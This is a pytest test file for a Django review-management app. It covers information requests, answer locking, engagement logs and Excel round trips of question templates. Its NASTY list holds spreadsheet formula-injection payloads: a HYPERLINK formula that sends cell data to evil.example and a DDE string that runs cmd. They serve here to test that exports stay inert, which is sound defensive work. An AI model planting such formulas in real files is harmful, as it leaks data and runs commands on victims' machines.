"""The information request (SOIR) and the engagement log through the application: build, send,
answer (drafts, evidence, submit, locked, reopened), completion with late and missing answers,
concurrent saves, every form field attacked by class, the engagement log's refusal of person
identifiers and its small-number roll-up, the question templates' Excel round trip, and the
progress report's method section and evidence references (with the relational audit hook)."""

from __future__ import annotations

import datetime as dt
import html
import io
import sys
import types
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from lsr.web.plan import excel_soir, report_method
from lsr.web.plan.identifiers import person_identifier
from lsr.web.plan.models import THEMES, Action, AuditEvent, Organisation
from lsr.web.plan.models_soir import (
    Answer,
    AnswerStatus,
    EngagementRecord,
    InformationRequest,
    QuestionKind,
    QuestionTemplate,
    RequestStatus,
)
from lsr.web.plan.report import render_report_html

pytestmark = pytest.mark.django_db

#: Texts a spreadsheet would run or that have broken a round trip (legitimate content).
NASTY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "line one\n=line two\n+line three",
    "tab\tinside",
    "café, 中文, emoji 😀",
    "_x0041_ is not an A, nor _x005F_x0042_",
    "x" * 32_767,
]
#: Control characters the text rules refuse, and one a single line refuses.
CONTROL = ["a\x00b", "a\x1bb", "a\x7fb", "a\x85b", "a\uffffb"]  # (a lone surrogate cannot be sent)


def _demo_soir(demo: Any) -> InformationRequest:
    return InformationRequest.objects.get(review=demo, is_example=True)


def _answer(soir: InformationRequest, org_short: str, kind: str | None = None) -> Answer:
    qs = Answer.objects.filter(
        question__request=soir, organisation__short_name=org_short, status=AnswerStatus.DRAFT
    )
    if kind:
        qs = qs.filter(question__kind=kind)
    answer = qs.order_by("id").first()
    assert answer is not None
    return answer


def _post(client: Client, answer: Answer, value: Any, intent: str = "save", **extra: Any) -> Any:
    answer.refresh_from_db()
    data = {"value": value, "version": answer.version, "intent": intent, **extra}
    return client.post(f"/soir-answers/{answer.pk}/", data)


# --- build and send --------------------------------------------------------------------------


def test_build_send_and_completion(demo: Any, client_for: Any) -> None:
    reviewer = client_for("reviewer")
    templates = list(QuestionTemplate.objects.all()[:3])
    response = reviewer.post(
        f"/reviews/{demo.pk}/soir/new/",
        {"title": "Second request", "templates": [t.pk for t in templates]},
    )
    assert response.status_code == 302
    soir = InformationRequest.objects.get(title="Second request")
    assert soir.questions.count() == 3 and soir.status == RequestStatus.DRAFT
    page = reviewer.get(f"/reviews/{demo.pk}/soir/new/").content.decode()
    for theme in THEMES:  # the builder groups templates by the nine themes
        assert f'<legend class="nhsuk-fieldset__legend nhsuk-fieldset__legend--s">{theme}' in page
    orgs = list(Organisation.objects.filter(short_name__in=["OH", "OUH"]))
    past = reviewer.post(
        f"/soir/{soir.pk}/send/", {"organisations": [o.pk for o in orgs], "due": "2000-01-01"}
    )
    assert past.status_code == 302
    assert InformationRequest.objects.get(pk=soir.pk).status == RequestStatus.DRAFT
    due = (timezone.localdate() + dt.timedelta(days=14)).isoformat()
    reviewer.post(f"/soir/{soir.pk}/send/", {"organisations": [o.pk for o in orgs], "due": due})
    soir.refresh_from_db()
    assert soir.status == RequestStatus.SENT and str(soir.due) == due
    assert Answer.objects.filter(question__request=soir).count() == 6
    assert AuditEvent.objects.filter(
        model="InformationRequest", detail__startswith="sent to"
    ).exists()
    # Sent once only.
    reviewer.post(f"/soir/{soir.pk}/send/", {"organisations": [orgs[0].pk], "due": due})
    assert Answer.objects.filter(question__request=soir).count() == 6


def test_demo_completion_lists_late_and_missing(demo: Any, client_for: Any) -> None:
    soir = _demo_soir(demo)
    page = client_for("viewer").get(f"/soir/{soir.pk}/").content.decode()
    assert "Example request" in page
    assert "Late answers" in page and "Missing answers (past the due date)" in page
    assert "Oxford University Hospitals NHS FT: " in page  # OUH answered late
    assert "Oxfordshire CCG: " in page  # CCG answered nothing


# --- answering --------------------------------------------------------------------------------


def test_draft_evidence_submit_lock_reopen(demo: Any, client_for: Any) -> None:
    soir = _demo_soir(demo)
    partner = client_for("partner")  # Oxford Health
    answer = _answer(soir, "OH", QuestionKind.TEXT)
    action = Action.objects.filter(review=demo).first()
    finding = demo.findings.first()
    assert _post(partner, answer, "First draft", actions=[action.pk]).status_code == 302
    answer.refresh_from_db()
    assert answer.value == "First draft" and answer.status == AnswerStatus.DRAFT
    assert list(answer.actions.all()) == [action]
    pdf = SimpleUploadedFile("plan.pdf", b"%PDF-1.4 example", content_type="application/pdf")
    r = partner.post(f"/soir-answers/{answer.pk}/evidence/", {"note": "Plan", "file": pdf})
    assert r.status_code == 302 and answer.evidence.count() == 1
    fake = SimpleUploadedFile("plan.pdf", b"MZ not a pdf", content_type="application/pdf")
    partner.post(f"/soir-answers/{answer.pk}/evidence/", {"note": "x", "file": fake})
    exe = SimpleUploadedFile("run.exe", b"MZ", content_type="application/octet-stream")
    partner.post(f"/soir-answers/{answer.pk}/evidence/", {"note": "x", "file": exe})
    assert answer.evidence.count() == 1  # the upload rules of actions' evidence apply
    r = _post(partner, answer, "Final", "submit", findings=[finding.pk])
    assert r.status_code == 302
    answer.refresh_from_db()
    assert answer.status == AnswerStatus.SUBMITTED and answer.submitted_by.username == "partner"
    # Locked: saving, submitting again and adding evidence are refused.
    assert _post(partner, answer, "Changed after submit").status_code == 403
    r = partner.post(f"/soir-answers/{answer.pk}/evidence/", {"note": "late"})
    assert r.status_code == 403
    answer.refresh_from_db()
    assert answer.value == "Final"
    # The partner cannot reopen; the reviewer can, audited.
    assert partner.post(f"/soir-answers/{answer.pk}/reopen/").status_code == 403
    assert client_for("reviewer").post(f"/soir-answers/{answer.pk}/reopen/").status_code == 302
    answer.refresh_from_db()
    assert answer.status == AnswerStatus.DRAFT
    details = list(
        AuditEvent.objects.filter(model="Answer", object_id=str(answer.pk)).values_list(
            "detail", flat=True
        )
    )
    assert any(d.startswith("submitted") for d in details)
    assert "reopened (unlocked for changes)" in details
    assert any("draft saved" in d for d in details)
    assert AuditEvent.objects.filter(model="AnswerEvidence").exists()
    # The review's audit trail page shows the answer's rows (they carry the review's id).
    trail = client_for("reviewer").get(f"/reviews/{demo.pk}/audit/").content.decode()
    assert "reopened (unlocked for changes)" in trail


def test_partner_cannot_touch_another_organisations_answers(demo: Any, client_for: Any) -> None:
    soir = _demo_soir(demo)
    partner = client_for("partner")  # Oxford Health
    for other in Answer.objects.filter(question__request=soir).exclude(
        organisation__short_name="OH"
    ):
        before = (other.value, other.status, other.version)
        assert _post(partner, other, "hijack").status_code == 403
        assert _post(partner, other, "hijack", "submit").status_code == 403
        assert partner.post(f"/soir-answers/{other.pk}/evidence/", {"note": "x"}).status_code == 403
        assert partner.get(f"/soir-answers/{other.pk}/").status_code == 403
        other.refresh_from_db()
        assert (other.value, other.status, other.version) == before
    for org in Organisation.objects.exclude(short_name="OH"):
        assert partner.get(f"/soir/{soir.pk}/organisations/{org.pk}/").status_code == 403


def test_a_stale_save_is_refused_with_the_current_answer(demo: Any, client_for: Any) -> None:
    soir = _demo_soir(demo)
    answer = _answer(soir, "OH", QuestionKind.TEXT)
    stale = answer.version
    partner = client_for("partner")
    assert _post(partner, answer, "Saved first").status_code == 302
    r = partner.post(
        f"/soir-answers/{answer.pk}/", {"value": "Saved second", "version": stale, "intent": "save"}
    )
    assert r.status_code == 409
    assert "Saved first" in r.content.decode()
    answer.refresh_from_db()
    assert answer.value == "Saved first"


VALID = {
    QuestionKind.TEXT: "A text",
    QuestionKind.NUMBER: "12.5",
    QuestionKind.DATE: "2018-10-01",
    QuestionKind.FILE: "A note",
}
WRONG_TYPE = {
    QuestionKind.NUMBER: ["twelve", "1e400", "NaN", "Infinity", "9" * 40, "1,2"],
    QuestionKind.DATE: ["yesterday", "2018-02-30", "31/31/2018", "9" * 40],
    QuestionKind.CHOICE: ["Not a choice", "1"],
}


@pytest.mark.parametrize("kind", [k.value for k in QuestionKind])
def test_every_answer_field_refuses_bad_input(demo: Any, client_for: Any, kind: str) -> None:
    """Every field of the answer form, for every kind of question: over-long text, control
    characters, wrong types, another review's action ids, missing version."""
    soir = _demo_soir(demo)
    q = soir.questions.filter(kind=kind).first()
    assert q is not None
    answer = Answer.objects.filter(question=q, organisation__short_name="OH").first()
    Answer.objects.filter(pk=answer.pk).update(status=AnswerStatus.DRAFT, value="")
    partner = client_for("partner")
    bad_values: list[str] = list(WRONG_TYPE.get(kind, []))
    if kind in (QuestionKind.TEXT, QuestionKind.FILE):
        bad_values += ["x" * 32_768, *CONTROL]
    bad_values += [c for c in CONTROL if kind != QuestionKind.TEXT]
    for value in bad_values:
        r = _post(partner, answer, value)
        assert r.status_code == 400, (kind, value[:20])
        assert "The answer was not saved" in r.content.decode()
    other_action = Action.objects.exclude(review=demo).first()
    if other_action is None:
        from lsr.web.plan.models import Review, Theme

        other = Review.objects.create(
            area_code="E1", area_name="Other", review_start=dt.date(2018, 1, 1),
            review_end=dt.date(2018, 1, 2),
        )  # fmt: skip
        theme = Theme.objects.create(review=other, name="T", order=1)
        other_action = Action.objects.create(
            review=other, what="x", theme=theme, owner_organisation=Organisation.objects.first()
        )
    good = VALID.get(kind) or q.choice_list()[0]
    for extra in (
        {"actions": [other_action.pk]},
        {"actions": ["not-a-number"]},
        {"findings": [999_999]},
        {"intent": "publish"},
        {"version": "one"},
        {"version": "0"},
    ):
        answer.refresh_from_db()
        data = {"value": good, "version": answer.version, "intent": "save", **extra}
        r = partner.post(f"/soir-answers/{answer.pk}/", data)
        assert r.status_code in (400, 409), (kind, extra)
    answer.refresh_from_db()
    assert answer.value == "" and answer.status == AnswerStatus.DRAFT
    # A valid value is stored in its kind's form (numbers without exponent, ISO dates).
    assert _post(partner, answer, good).status_code == 302
    answer.refresh_from_db()
    assert answer.value == (good if kind != QuestionKind.NUMBER else "12.5")
    # Submitting needs an answer (or, for a file question, a file).
    Answer.objects.filter(pk=answer.pk).update(value="")
    r = _post(partner, answer, "", "submit")
    assert r.status_code == 400


def test_csrf_and_anonymous(demo: Any, client_for: Any) -> None:
    soir = _demo_soir(demo)
    answer = _answer(soir, "OH")
    partner = client_for("partner", enforce_csrf_checks=True)
    r = partner.post(
        f"/soir-answers/{answer.pk}/", {"value": "x", "version": answer.version, "intent": "save"}
    )
    assert r.status_code == 403
    anonymous = Client()
    for url in (
        f"/soir-answers/{answer.pk}/",
        f"/soir/{soir.pk}/send/",
        f"/reviews/{demo.pk}/engagement/new/",
        "/soir-templates/import/",
    ):
        r = anonymous.post(url, {"value": "x"})
        assert r.status_code in (302, 403), url
        if r.status_code == 302:
            assert "/accounts/login/" in r["Location"]
    answer.refresh_from_db()
    assert answer.value != "x"


# --- engagement log ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "943 476 5919",
        "9434765919",
        "943-476-5919",
        "DOB 01/02/1940",
        "date of birth 1 Feb 1940",
        "Mrs Smith",
        "Dr. Jones",
        "someone@example.org",
    ],
)
def test_engagement_refuses_person_identifiers_in_every_text_field(
    demo: Any, client_for: Any, text: str
) -> None:
    reviewer = client_for("reviewer")
    base = {
        "kind": "interview", "date": "2018-11-06", "title": "Interview", "notes": "",
        "participants-TOTAL_FORMS": "1", "participants-INITIAL_FORMS": "0",
        "participants-MIN_NUM_FORMS": "1", "participants-MAX_NUM_FORMS": "20",
        "participants-0-group": "staff", "participants-0-roles": "nurses",
        "participants-0-organisation": "Oxford Health", "participants-0-count": "3",
    }  # fmt: skip
    count = EngagementRecord.objects.count()
    for field in ("title", "notes", "participants-0-roles", "participants-0-organisation"):
        r = reviewer.post(f"/reviews/{demo.pk}/engagement/new/", {**base, field: text})
        assert r.status_code == 400, field
        assert "never who they are" in r.content.decode()
    assert EngagementRecord.objects.count() == count
    assert reviewer.post(f"/reviews/{demo.pk}/engagement/new/", base).status_code == 302
    assert EngagementRecord.objects.count() == count + 1
    record = EngagementRecord.objects.order_by("-id").first()
    row = AuditEvent.objects.get(model="EngagementRecord", object_id=str(record.pk))
    assert row.review_id == demo.pk and row.after["participants"][0]["roles"] == "nurses"


def test_identifier_rule_keeps_ordinary_text() -> None:
    for text in ("12 community nurses", "Oxford Health NHS FT", "2018-11-06", "01865 123456"):
        assert person_identifier(text) is None, text


def test_engagement_form_attacks(demo: Any, client_for: Any) -> None:
    reviewer = client_for("reviewer")
    base = {
        "kind": "interview", "date": "2018-11-06", "title": "Interview", "notes": "",
        "participants-TOTAL_FORMS": "1", "participants-INITIAL_FORMS": "0",
        "participants-MIN_NUM_FORMS": "1", "participants-MAX_NUM_FORMS": "20",
        "participants-0-group": "staff", "participants-0-roles": "nurses",
        "participants-0-organisation": "", "participants-0-count": "3",
    }  # fmt: skip
    other_theme = 999_999
    attacks = [
        {"kind": "patient"}, {"date": "not a date"}, {"title": "x" * 201},
        {"title": "a\nb"}, {"notes": "a\x00b"}, {"themes": [other_theme]},
        {"participants-0-count": "0"}, {"participants-0-count": "many"},
        {"participants-0-count": "10001"}, {"participants-0-group": "patients"},
        {"participants-0-roles": "x" * 301}, {"participants-TOTAL_FORMS": "500"},
        {"participants-0-group": "", "participants-0-roles": "", "participants-0-count": ""},
        *({"title": c} for c in CONTROL),
    ]  # fmt: skip
    count = EngagementRecord.objects.count()
    for attack in attacks:
        r = reviewer.post(f"/reviews/{demo.pk}/engagement/new/", {**base, **attack})
        assert r.status_code == 400, attack
    assert EngagementRecord.objects.count() == count


def test_engagement_rollup_and_notes(demo: Any, client_for: Any) -> None:
    lines = report_method.people_spoken_with(demo)
    assert lines[0].startswith("System leaders including")
    assert "(8 people)" in lines[0]
    healthwatch = next(x for x in lines if x.startswith("Local Healthwatch"))
    assert "(5 people)" in healthwatch
    # A group of fewer than 5 people is never shown as its number.
    record = EngagementRecord.objects.filter(review=demo).first()
    record.participants.all().delete()
    record.participants.create(group="national", roles="advisers", count=2)
    lines = report_method.people_spoken_with(demo)
    national = next(x for x in lines if x.startswith("National partners"))
    assert national.endswith("(fewer than 5 people).") and "2" not in national
    page = client_for("viewer").get(f"/reviews/{demo.pk}/engagement/").content.decode()
    assert "fewer than 5 people" in page and "Example notes" not in page
    page = client_for("lead").get(f"/reviews/{demo.pk}/engagement/").content.decode()
    assert "Example notes" in page


# --- question templates as Excel --------------------------------------------------------------


def _state() -> list[tuple[Any, ...]]:
    return [
        (t.pk, t.theme, t.kind, t.text, t.guidance, t.choices, t.order)
        for t in QuestionTemplate.objects.order_by("pk")
    ]


def test_template_round_trip_is_exact_and_inert(demo: Any, client_for: Any) -> None:
    for i, t in enumerate(QuestionTemplate.objects.order_by("pk")):
        t.text = NASTY[i % len(NASTY)]
        t.guidance = NASTY[(i + 1) % len(NASTY)]
        if t.kind == QuestionKind.CHOICE:
            t.choices = "=1+1\n+yes\n@no"
        t.save()
    before = _state()
    reviewer = client_for("reviewer")
    data = reviewer.get("/soir-templates/export.xlsx").content
    wb = load_workbook(io.BytesIO(data))
    for row in wb["Question templates"].iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):  # every text cell a string, never a formula
                assert cell.data_type == "s"
    r = reviewer.post("/soir-templates/import/", {"file": SimpleUploadedFile("t.xlsx", data)})
    assert r.status_code == 302
    assert _state() == before


def _workbook(
    rows: list[list[Any]], header: tuple[str, ...] = excel_soir.TEMPLATE_COLUMNS
) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = excel_soir.SHEET
    ws.append(list(header))
    for row in rows:
        ws.append(row)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def test_template_import_is_all_or_nothing_with_row_and_column(demo: Any, client_for: Any) -> None:
    before = _state()
    good = [None, THEMES[0], "text", "A new question", "", "", 1]
    bad_rows = [
        ([None, "Not a theme", "text", "Q", "", "", 1], "'theme'"),
        ([None, THEMES[0], "essay", "Q", "", "", 1], "'kind'"),
        ([None, THEMES[0], "choice", "Q", "", "only one", 1], "'choices'"),
        ([None, THEMES[0], "text", "Q", "", "a\nb", 1], "'choices'"),
        ([None, THEMES[0], "text", "", "", "", 1], "'text'"),
        ([None, THEMES[0], "text", "a_x001B_b", "", "", 1], "'text'"),  # ESC, as .xlsx writes it
        ([None, THEMES[0], "text", "Q", "", "", "first"], "'order'"),
        ([999_999, THEMES[0], "text", "Q", "", "", 1], "'id'"),
        (["x", THEMES[0], "text", "Q", "", "", 1], "'id'"),
    ]
    reviewer = client_for("reviewer")
    for row, column in bad_rows:
        data = _workbook([good, row])
        r = reviewer.post("/soir-templates/import/", {"file": SimpleUploadedFile("t.xlsx", data)})
        assert r.status_code == 400, row
        assert f"row 3, column {column}" in html.unescape(r.content.decode()), row
        assert _state() == before
    for data in (b"not a workbook", _workbook([good], header=("id", "theme"))):
        r = reviewer.post("/soir-templates/import/", {"file": SimpleUploadedFile("t.xlsx", data)})
        assert r.status_code == 400
        assert _state() == before
    many = _workbook([good] * 5_001)
    r = reviewer.post("/soir-templates/import/", {"file": SimpleUploadedFile("t.xlsx", many)})
    assert r.status_code == 400 and "more than 5,000 rows" in r.content.decode()
    r = reviewer.post(
        "/soir-templates/import/", {"file": SimpleUploadedFile("t.xlsx", _workbook([good]))}
    )
    assert r.status_code == 302 and len(_state()) == len(before) + 1
    assert AuditEvent.objects.filter(model="QuestionTemplate", kind="create").exists()
    # The lead may export but not import.
    lead = client_for("lead")
    assert lead.get("/soir-templates/export.xlsx").status_code == 200
    r = lead.post(
        "/soir-templates/import/", {"file": SimpleUploadedFile("t.xlsx", _workbook([good]))}
    )
    assert r.status_code == 403


# --- the report -------------------------------------------------------------------------------


def test_report_method_section_and_evidence_references(demo: Any) -> None:
    html = render_report_html(demo, charts=False)
    assert "How we carried out the progress review" in html
    soir = _demo_soir(demo)
    assert "sent to 4 organisations" in html
    assert "0 of 4 answered every question by the due date." in html  # none answered all
    ctx = report_method.method_context(demo)
    first = ctx["method_lines"][0]
    assert "(example data)" in first and "sent to 4 organisations" in first
    assert (
        "We held 2 interviews, 2 focus groups between 6 November 2018 and 7 November 2018" in html
    )
    assert "The people we spoke with included:" in html
    assert "Staff members including community nurses" in html
    # SOIR answers are cited from the findings of their theme, with their reference.
    submitted = Answer.objects.filter(question__request=soir, status=AnswerStatus.SUBMITTED)
    for a in submitted:
        assert f"SOIR-{a.pk}</span> from {a.organisation.name}" in html
    drafts = Answer.objects.filter(question__request=soir, status=AnswerStatus.DRAFT)
    for a in drafts:
        assert f"SOIR-{a.pk}<" not in html


def test_method_counts_on_time_and_late(demo: Any) -> None:
    soir = _demo_soir(demo)
    # Make every organisation's answers complete: OCC on time, the rest late.
    for a in Answer.objects.filter(question__request=soir):
        late = a.organisation.short_name != "OCC"
        day = soir.due + dt.timedelta(days=3 if late else -1)
        a.status = AnswerStatus.SUBMITTED
        a.value = a.value or "x"
        a.submitted_at = timezone.make_aware(dt.datetime.combine(day, dt.time(12)))
        a.save()
    line = report_method.soir_lines(demo)[0]
    assert "1 of 4 answered every question by the due date, 3 answered late." in line


def test_relaudit_hook(demo: Any, monkeypatch: Any) -> None:
    """No lines while lsr.web.plan.relaudit_summary is absent; its lines in the method section
    once it exists; any other import error is raised, not hidden."""
    name = report_method.RELAUDIT_MODULE
    if name not in sys.modules:
        try:
            __import__(name)
        except ModuleNotFoundError:
            assert report_method.relaudit_method_lines(demo) == []
    fake = types.ModuleType(name)
    fake.method_lines = lambda review: [f"A relational audit of {review.area_name} ran twice."]  # type: ignore[attr-defined]
    monkeypatch.setitem(sys.modules, name, fake)
    assert "A relational audit of Oxfordshire ran twice." in render_report_html(demo, charts=False)
    broken = types.ModuleType(name)

    def fail(review: Any) -> list[str]:
        raise RuntimeError("boom")

    broken.method_lines = fail  # type: ignore[attr-defined]
    monkeypatch.setitem(sys.modules, name, broken)
    with pytest.raises(RuntimeError):
        report_method.relaudit_method_lines(demo)


@pytest.mark.slow
def test_tagged_pdf_has_the_method_section_and_references(demo: Any) -> None:
    from pypdf import PdfReader

    from lsr.web.plan.report import render_report_pdf

    pdf = render_report_pdf(render_report_html(demo, charts=False))
    reader = PdfReader(io.BytesIO(pdf))
    text = " ".join(p.extract_text() for p in reader.pages)
    text = " ".join(text.split())
    assert "How we carried out the progress review" in text
    assert "The people we spoke with included:" in text
    assert "People and sources consulted" in text
    submitted = Answer.objects.filter(status=AnswerStatus.SUBMITTED).first()
    assert f"SOIR-{submitted.pk}" in text
    assert "/StructTreeRoot" in str(reader.trailer["/Root"].keys())  # tagged
